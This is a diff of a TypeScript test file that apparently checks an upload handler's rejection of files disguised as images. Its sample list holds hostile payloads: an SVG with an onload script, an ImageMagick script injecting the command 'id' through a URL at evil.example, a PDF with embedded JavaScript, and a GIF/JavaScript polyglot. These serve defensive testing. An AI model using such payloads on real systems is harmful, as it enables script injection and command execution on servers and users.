@@ -205,10 +205,12 @@ test("a malformed form is the sender's mistake", async () => {
   }
 });
 
+const SVG = 'xmlns="http://www.w3.org/2000/svg"';
+
 /** What it is, the ending of its name and its bytes. */
 const NO_PHOTOS: [string, string, () => Buffer | Promise<Buffer>, number?][] = [
   ["a web page", "png", () => Buffer.from(`<!doctype html>${SCRIPT}`)],
-  ["a drawing with a script", "png", () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
+  ["a drawing with a script", "png", () => Buffer.from(`<svg ${SVG} width="400" height="400" onload="alert(1)"/>`)],
   ["a script for ImageMagick", "png", () => Buffer.from("push graphic-context\nfill 'url(https://evil.example/|id)'")],
   ["a PDF", "png", () => Buffer.from("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")],
   ["a GIF header before a script", "gif", () => Buffer.from(`GIF89a/*${SCRIPT}*/=1;alert(1)`)],
